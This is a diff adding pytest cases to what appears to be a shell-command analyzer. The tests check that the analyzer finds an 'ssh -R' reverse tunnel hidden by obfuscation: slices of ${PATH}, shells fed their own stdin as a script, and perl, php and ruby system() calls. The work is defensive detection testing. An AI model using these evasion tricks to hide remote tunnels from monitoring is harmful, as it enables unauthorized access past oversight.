@@ -978,3 +978,32 @@ def test_printf_output_is_bounded_in_width_and_precision():
     assert len(output_of("printf", ["%.999999999f", "1"], None)) < 300
     assert len(output_of("printf", ["%999999999s" * 1000], None)) == MAX_PRINTF
     assert output_of("printf", ["%(%F)T"], None) is None  # a time: not known here
+
+
+@pytest.mark.parametrize("text", [
+    "${PATH:0:1}usr${PATH:0:1}bin${PATH:0:1}ssh -R 1:l:22 h",
+    "${SHELL:7:1}${SHELL:7:2} -R 1:l:22 h",
+])
+def test_characters_cut_from_the_assumed_environment(text):
+    """`${PATH:0:1}` is `/` in every shell; PATH as such stays as written."""
+    assert find(text, "ssh").args == ["-R", "1:l:22", "h"]
+    assert find("echo $PATH ${PATH}", "echo").args == ["$PATH", "${PATH}"]
+
+
+@pytest.mark.parametrize("text", [
+    ". /dev/stdin <<< 'ssh -R 1:l:22 h'",
+    "echo 'ssh -R 1:l:22 h' | source /proc/self/fd/0",
+    "printf 'ssh -R 1:l:22 h' | bash /dev/stdin",
+])
+def test_a_shell_given_its_own_input_as_a_script_runs_it(text):
+    cmd = find(text, "ssh")
+    assert cmd.args == ["-R", "1:l:22", "h"] and cmd.via[-1] in (".", "source", "bash")
+
+
+@pytest.mark.parametrize("text", [
+    "perl -e 'system(\"ssh -R 1:l:22 u\\@h\")'",
+    "php -r 'system(\"id\\nssh -R 1:l:22 u@h\");'",
+    "ruby -e 'system(\"ssh -R 1:l:22 \\\"u@h\\\"\")'",
+])
+def test_escapes_in_other_languages_strings_given_to_a_shell(text):
+    assert find(text, "ssh").args == ["-R", "1:l:22", "u@h"]
